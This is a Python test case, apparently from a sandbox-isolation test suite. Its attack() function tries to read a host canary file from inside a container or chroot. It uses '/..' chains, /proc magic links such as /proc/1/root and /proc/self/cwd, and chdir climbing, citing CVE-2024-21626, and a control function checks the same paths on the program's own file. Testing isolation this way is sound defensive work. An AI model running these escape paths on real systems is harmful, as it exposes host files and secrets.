"""Open a file of the host by its path, said in every way a path can be said.

Technique: the absolute path, many `..` above the root, the magic links of /proc (`root`, `cwd`) of this process, its
    thread and its parent, and `..` out of every directory that is shown from the host. Works where the root file system
    is the host's, where a chroot was left a way out, or where a magic link of a process outside can be followed
    (CVE-2024-21626 was such a `cwd`).
Success: the contents of a file that lies outside.
Stopped by: mount_namespace, root_filesystem
"""


def attack():
    file = canary["file"]
    up = "/.." * 30
    below = ["/", "/env", "/usr", "/usr/lib", "/work", "/tmp", "/dev/shm", sys.base_prefix]
    starts = ["", "/", "/proc/self/root", "/proc/thread-self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/task/../root"]
    paths = [start + file for start in starts] + [directory + up + file for directory in [*below, "/proc/self/cwd", "/proc/1/cwd"]]
    for path in paths:
        try:
            with open(path) as found:
                return f"{path}: {found.read(100)}"
        except OSError:
            pass
    os.chdir("/")
    for _ in range(60):
        os.chdir("..")
    with open(file.lstrip("/")) as found:
        return found.read(100)


def twin():
    """The program's own files answer to all of these ways."""
    with open("own.txt", "w") as own:
        own.write("mine")
    file = os.path.realpath("own.txt")
    again = "./../" + os.path.basename(os.getcwd()) + "/own.txt"
    for path in [file, "/" + file, "/proc/self/root" + file, "/proc/self/cwd/own.txt", "/.." * 30 + file, again]:
        with open(path) as own:
            assert own.read() == "mine", path
